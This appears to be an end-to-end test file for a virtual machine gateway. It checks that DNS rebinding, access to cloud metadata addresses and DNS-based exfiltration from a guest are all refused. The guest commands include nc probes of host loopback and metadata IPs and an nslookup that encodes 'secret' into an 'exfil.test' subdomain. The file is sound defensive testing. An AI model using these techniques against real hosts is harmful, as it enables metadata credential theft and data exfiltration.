// Issue 14, items 3-5, from inside a real guest: the gateway's upstream is a hostile DNS server on
// loopback (tools/fixtures/hostile-dns.ts, via SMOLVM_DNS_SERVERS) that maps allowed names to the
// host's loopback and counts every query it gets. The host side: an HTTP server on 127.0.0.1 (what
// rebinding would reach through 192.168.127.1) and servers on two cloud metadata addresses put on
// a veth pair this file creates, so nothing leaves the machine even if the gateway let it through.
import { spawnSync } from 'node:child_process';
import http from 'node:http';
import type net from 'node:net';
import { startHostileDns, type HostileDns } from '../../../../tools/fixtures/hostile-dns';
import { e2eSetup, smolvmAsync, type CliResult, type E2eSetup } from '../helpers';

jest.setTimeout(300_000);

const VETH = `smd${process.pid % 100000}a`;
const METADATA = ['100.100.100.200', '168.63.129.16'];
/** Plain HTTP GET with busybox nc: the last line is the body or nc's error. */
const GET = `get() { printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -w 5 "$1" "$2" 2>&1 | tail -n1; }`;

let setup: E2eSetup;
let hostile: HostileDns;
let port = 0;
const servers: http.Server[] = [];

function run(args: string[], script: string): Promise<CliResult> {
  return smolvmAsync(
    [
      'machine',
      'run',
      '--debug',
      '--cpus',
      '1',
      '--memory',
      '256',
      ...args,
      '--',
      '/bin/sh',
      '-c',
      `${GET}; ${script}`,
    ],
    {
      ...setup.env,
      SMOLVM_DNS_SERVERS: hostile.server,
    },
  );
}

function ip(...args: string[]): void {
  const r = spawnSync('ip', args, { encoding: 'utf8' });
  if (r.status !== 0) throw new Error(`ip ${args.join(' ')}: ${r.stderr}`);
}

beforeAll(async () => {
  setup = await e2eSetup('smolvm-dns-e2e-');
  hostile = await startHostileDns();
  ip('link', 'add', VETH, 'type', 'veth', 'peer', 'name', `${VETH.slice(0, -1)}b`);
  for (const a of METADATA) ip('addr', 'add', `${a}/32`, 'dev', VETH);
  ip('link', 'set', VETH, 'up');
  for (const address of ['127.0.0.1', ...METADATA]) {
    const server = http.createServer((_q, res) => res.end(`secret from ${address}\n`));
    servers.push(server);
    port = await new Promise<number>((resolve) =>
      server.listen(port, address, () => resolve((server.address() as net.AddressInfo).port)),
    );
  }
});

afterAll(async () => {
  for (const s of servers) s.close();
  spawnSync('ip', ['link', 'del', VETH]);
  await hostile?.close();
  expect(setup.qemus()).toEqual([]);
  await setup?.close();
});

beforeEach(() => {
  hostile.queries.length = 0;
});

test('--allow-host of a name that resolves to 127.0.0.1 does not open the host loopback at 192.168.127.1', async () => {
  hostile.table['evil.test'] = { a: ['127.0.0.1'], ttl: 0x7fffffff };
  hostile.table['inside.test'] = { a: ['10.0.0.1', '100.100.100.200'] };
  const r = await run(
    ['--allow-host', 'evil.test', '--allow-host', 'inside.test'],
    `get 192.168.127.1 ${port}; nslookup evil.test; nslookup inside.test; get 100.100.100.200 ${port}`,
  );
  expect(r.stdout).not.toContain('secret from');
  expect(r.stdout).not.toMatch(/Address: (127\.0\.0\.1|10\.0\.0\.1|100\.100\.100\.200)$/m);
  expect(r.stdout.split('\n')[0]).toMatch(/Connection refused/);
  expect(r.stderr).toContain(`denied tcp 127.0.0.1 (via gateway):${port}`);
  // --debug shows why, with the flag that would open it.
  expect(r.stderr).toMatch(
    /network: allowed host evil\.test resolves to 127\.0\.0\.1, not opened: .*--allow-cidr 127\.0\.0\.1\/32/,
  );
  expect(r.status).toBe(0);
});

test('--allow-cidr and --outbound-localhost-only: a guest lookup never reaches the upstream resolver', async () => {
  for (const flags of [['--allow-cidr', '198.51.100.0/24'], ['--outbound-localhost-only']]) {
    const r = await run(flags, 'nslookup c2VjcmV0.exfil.test; echo status=$?');
    expect([flags, hostile.queries]).toEqual([flags, []]);
    expect(r.stdout).toMatch(/REFUSED|NXDOMAIN/);
    expect(r.stdout).toContain('status=1');
    expect(r.stderr).toMatch(/denied dns c2vjcmv0\.exfil\.test/);
  }
});

test('--net: cloud metadata addresses outside 169.254/16 are refused', async () => {
  const r = await run(['--net'], METADATA.map((a) => `get ${a} ${port}`).join('; '));
  expect(r.stdout).not.toContain('secret from');
  expect(r.stdout.trim().split('\n')).toEqual([
    expect.stringMatching(/Connection refused/),
    expect.stringMatching(/Connection refused/),
  ]);
  for (const a of METADATA) expect(r.stderr).toContain(`denied tcp ${a}:${port}`);
});
